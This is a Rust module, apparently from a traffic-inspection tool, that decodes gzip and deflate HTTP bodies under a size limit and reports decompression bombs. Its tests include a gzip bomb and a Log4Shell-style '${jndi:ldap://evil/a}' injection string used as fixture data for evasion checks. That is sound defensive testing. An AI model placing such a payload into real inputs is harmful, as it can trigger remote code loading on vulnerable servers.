//! Message bodies as the application reads them: `Content-Encoding: gzip` or `deflate`
//! decoded (flate2) into a buffer that never grows past its limit. A decoder that would
//! pass the limit is stopped there, so a decompression bomb costs no more than the limit;
//! one that expands more than [`BOMB_RATIO`] times on the way is reported as a bomb.

use std::io::Write;

/// Decompressed bytes per compressed byte beyond which a body cut at its limit is called
/// a bomb. Deflate expands at most about 1,032 times; text and images stay far below 100.
pub const BOMB_RATIO: usize = 500;

/// Where a decoder writes: the body, up to its limit; past it the write fails, which
/// stops the decoder.
#[derive(Debug, Default)]
struct Sink {
    out: Vec<u8>,
    limit: usize,
}

impl Write for Sink {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let room = self.limit.saturating_sub(self.out.len());
        if room == 0 && !buf.is_empty() {
            return Err(std::io::ErrorKind::WriteZero.into());
        }
        let n = room.min(buf.len());
        self.out.extend_from_slice(&buf[..n]);
        Ok(n)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// A streaming decoder of one body.
#[derive(Debug)]
enum Inflater {
    Gzip(flate2::write::GzDecoder<Sink>),
    Zlib(flate2::write::ZlibDecoder<Sink>),
    Raw(flate2::write::DeflateDecoder<Sink>),
}

/// How a body is encoded, from its `Content-Encoding`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    /// Not encoded (or an encoding not decoded: read as sent).
    Identity,
    /// `gzip`, `x-gzip`.
    Gzip,
    /// `deflate` (zlib-wrapped, or raw as some servers send it).
    Deflate,
}

impl Encoding {
    /// The encoding a `Content-Encoding` value names (its last coding).
    pub fn of(value: Option<&[u8]>) -> Encoding {
        let Some(v) = value else {
            return Encoding::Identity;
        };
        let last = v.rsplit(|&b| b == b',').next().unwrap_or(v).trim_ascii();
        if last.eq_ignore_ascii_case(b"gzip") || last.eq_ignore_ascii_case(b"x-gzip") {
            Encoding::Gzip
        } else if last.eq_ignore_ascii_case(b"deflate") {
            Encoding::Deflate
        } else {
            Encoding::Identity
        }
    }
}

impl Inflater {
    /// Decodes `bytes` (output may stay buffered in the decoder until [`Inflater::flush`]).
    fn write_all(&mut self, bytes: &[u8]) -> std::io::Result<()> {
        match self {
            Inflater::Gzip(d) => d.write_all(bytes),
            Inflater::Zlib(d) => d.write_all(bytes),
            Inflater::Raw(d) => d.write_all(bytes),
        }
    }

    /// Writes out everything decoded so far.
    fn flush(&mut self) -> std::io::Result<()> {
        match self {
            Inflater::Gzip(d) => d.flush(),
            Inflater::Zlib(d) => d.flush(),
            Inflater::Raw(d) => d.flush(),
        }
    }

    fn sink(&self) -> &Sink {
        match self {
            Inflater::Gzip(d) => d.get_ref(),
            Inflater::Zlib(d) => d.get_ref(),
            Inflater::Raw(d) => d.get_ref(),
        }
    }

    fn sink_mut(&mut self) -> &mut Sink {
        match self {
            Inflater::Gzip(d) => d.get_mut(),
            Inflater::Zlib(d) => d.get_mut(),
            Inflater::Raw(d) => d.get_mut(),
        }
    }
}

/// A body being received: its decoded bytes up to a limit.
#[derive(Debug, Default)]
pub struct Body {
    /// The decoded bytes kept while not decoding (a decoder keeps them in its sink).
    data: Vec<u8>,
    /// Bytes of the body inspected by earlier packets.
    pub seen: usize,
    /// Bytes were left out: past the limit, or undecodable.
    pub truncated: bool,
    /// The decoder expanded past [`BOMB_RATIO`] before it was cut.
    pub bomb: bool,
    encoding: Option<Encoding>,
    inflater: Option<Box<Inflater>>,
    compressed_in: usize,
}

impl Body {
    /// An empty body of `encoding`.
    pub fn new(encoding: Encoding) -> Body {
        Body {
            encoding: Some(encoding),
            ..Body::default()
        }
    }

    /// An empty body of `encoding` whose sender announced `hint` bytes: room for them
    /// (up to `limit`) is taken at once when it is not encoded.
    pub fn with_hint(encoding: Encoding, hint: Option<usize>, limit: usize) -> Body {
        let mut b = Body::new(encoding);
        if encoding == Encoding::Identity {
            b.data.reserve_exact(hint.unwrap_or(0).min(limit));
        }
        b
    }

    /// The decoded bytes kept (at most the limit).
    pub fn data(&self) -> &[u8] {
        match self.inflater.as_deref() {
            Some(i) => &i.sink().out,
            None => &self.data,
        }
    }

    /// Bytes held (capacity), for the memory cap.
    pub fn footprint(&self) -> usize {
        self.data.capacity()
            + self
                .inflater
                .as_deref()
                .map_or(0, |i| i.sink().out.capacity() + INFLATER_COST)
    }

    /// Adds `bytes` as sent (still encoded), keeping at most `limit` decoded bytes.
    pub fn push(&mut self, bytes: &[u8], limit: usize) {
        if bytes.is_empty() || self.truncated {
            return;
        }
        if limit == 0 {
            // Nothing is kept: nothing is decoded either.
            self.truncated = true;
            return;
        }
        match self.encoding.unwrap_or(Encoding::Identity) {
            Encoding::Identity => {
                let room = limit.saturating_sub(self.data.len());
                self.data.extend_from_slice(&bytes[..room.min(bytes.len())]);
                self.truncated = bytes.len() > room;
            }
            encoding => self.inflate(encoding, bytes, limit),
        }
    }

    /// Stops keeping bytes (the memory cap): what was kept is freed.
    pub fn shed(&mut self) {
        self.data = Vec::new();
        self.inflater = None;
        self.truncated = true;
    }

    fn inflate(&mut self, encoding: Encoding, bytes: &[u8], limit: usize) {
        // A zlib header takes two bytes to tell from raw deflate: a first byte alone
        // waits for the next.
        if self.inflater.is_none()
            && encoding == Encoding::Deflate
            && self.data.len() + bytes.len() < 2
        {
            self.data.extend_from_slice(bytes);
            return;
        }
        let start;
        let bytes = if self.inflater.is_none() && !self.data.is_empty() {
            let mut joined = std::mem::take(&mut self.data);
            joined.extend_from_slice(bytes);
            start = joined;
            &start[..]
        } else {
            bytes
        };
        let inflater = self.inflater.get_or_insert_with(|| {
            let sink = Sink {
                out: std::mem::take(&mut self.data),
                limit,
            };
            Box::new(match encoding {
                Encoding::Gzip => Inflater::Gzip(flate2::write::GzDecoder::new(sink)),
                // A zlib header: 8 (deflate) in the low nibble, and a multiple of 31.
                _ if bytes.len() >= 2
                    && bytes[0] & 0x0f == 8
                    && (u16::from(bytes[0]) << 8 | u16::from(bytes[1])) % 31 == 0 =>
                {
                    Inflater::Zlib(flate2::write::ZlibDecoder::new(sink))
                }
                _ => Inflater::Raw(flate2::write::DeflateDecoder::new(sink)),
            })
        });
        // Fed in small slices, so that where the limit is reached tells how far the
        // input expanded.
        let failed = bytes.chunks(FEED).any(|slice| {
            self.compressed_in += slice.len();
            inflater.write_all(slice).is_err()
        }) || inflater.flush().is_err();
        if failed {
            // Past the limit, or not the encoding it claims: nothing more is decoded.
            self.data = std::mem::take(&mut inflater.sink_mut().out);
            self.inflater = None;
            self.truncated = true;
            self.bomb =
                self.data.len() >= limit && self.data.len() > BOMB_RATIO * self.compressed_in;
        }
    }
}

/// Compressed bytes fed to a decoder at a time.
const FEED: usize = 64;

/// What a decoder's state counts against the memory cap, beside its output.
const INFLATER_COST: usize = 48 * 1024;

#[cfg(test)]
mod tests {
    use super::*;
    use testkit::evasion::gzip;

    #[test]
    fn gzip_and_deflate_bodies_are_decoded_across_any_cut() {
        let text = b"<html>${jndi:ldap://evil/a}</html>".repeat(20);
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(&text).unwrap();
        let zlib = z.finish().unwrap();
        let mut r = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        r.write_all(&text).unwrap();
        let raw = r.finish().unwrap();
        for (encoding, sent) in [
            (Encoding::Gzip, gzip(&text)),
            (Encoding::Deflate, zlib),
            (Encoding::Deflate, raw),
        ] {
            for cut in [1, 3, 10, 1000] {
                let mut b = Body::new(encoding);
                for piece in sent.chunks(cut) {
                    b.push(piece, 1 << 20);
                }
                assert_eq!(b.data(), &text[..], "{encoding:?} in {cut}-byte pieces");
                assert!(!b.truncated);
            }
        }
    }

    #[test]
    fn a_decompression_bomb_is_cut_at_the_limit_and_reported() {
        let bomb = gzip(&vec![0u8; 50 << 20]);
        assert!(bomb.len() < 100 << 10);
        let mut b = Body::new(Encoding::Gzip);
        for piece in bomb.chunks(1460) {
            b.push(piece, 100 << 10);
        }
        assert_eq!(b.data().len(), 100 << 10);
        assert!(b.truncated && b.bomb);
        assert!(b.footprint() < 1 << 20);
        // A plain body past the limit is cut, not a bomb.
        let mut b = Body::new(Encoding::Identity);
        b.push(&[b'x'; 300], 100);
        assert_eq!((b.data().len(), b.truncated, b.bomb), (100, true, false));
    }

    #[test]
    fn encodings_are_read_from_content_encoding() {
        assert_eq!(Encoding::of(Some(b"gzip")), Encoding::Gzip);
        assert_eq!(Encoding::of(Some(b"X-GZIP")), Encoding::Gzip);
        assert_eq!(Encoding::of(Some(b"identity, deflate")), Encoding::Deflate);
        assert_eq!(Encoding::of(Some(b"br")), Encoding::Identity);
        assert_eq!(Encoding::of(None), Encoding::Identity);
    }
}
